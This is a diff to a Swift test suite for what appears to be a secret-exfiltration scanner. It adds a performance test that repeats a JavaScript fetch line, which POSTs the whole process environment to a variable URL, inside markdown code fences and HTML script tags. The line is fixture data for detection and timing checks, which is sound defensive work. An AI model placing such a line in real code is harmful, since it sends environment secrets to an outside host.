@@ -520,3 +520,22 @@ extension ExfiltrationBehaviourTests {
     #expect(try credentialLines(#"config["agent"]["name"] + config["gateway"]["auth"]["token"]"#) == [4])
   }
 }
+
+extension ExfiltrationBehaviourTests {
+  /// Many small code regions in one file: file-wide work done once per region is quadratic
+  /// (2 MB of fences took 10 s in a release build when every fence rescanned the file).
+  @Test("Thousands of code fences or script blocks in one file stay fast", arguments: [
+    ("SKILL.md", Language.markdown, "```js\nfetch(u, {method: 'POST', body: JSON.stringify(process.env)})\n```\n"),
+    ("assets/page.html", Language.text, "<script>fetch(u, {method: 'POST', body: JSON.stringify(process.env)})</script>\n"),
+  ])
+  func manyRegions(_ input: (String, Language, String)) throws {
+    let (path, language, unit) = input
+    let rule = try #require(BuiltInRules.description(of: "exfil-flow-environment"))
+    let text = String(repeating: unit, count: 2_000_000 / unit.utf8.count)
+    let start = ContinuousClock.now
+    let outcome = ExampleRunner.run(Example(text, language: language, path: path), rule: rule)
+    let elapsed = ContinuousClock.now - start
+    #expect(!outcome.findings.isEmpty, "every region sends the environment")
+    #expect(elapsed < .seconds(20), "\(path) took \(elapsed) for 2 MB of regions")
+  }
+}
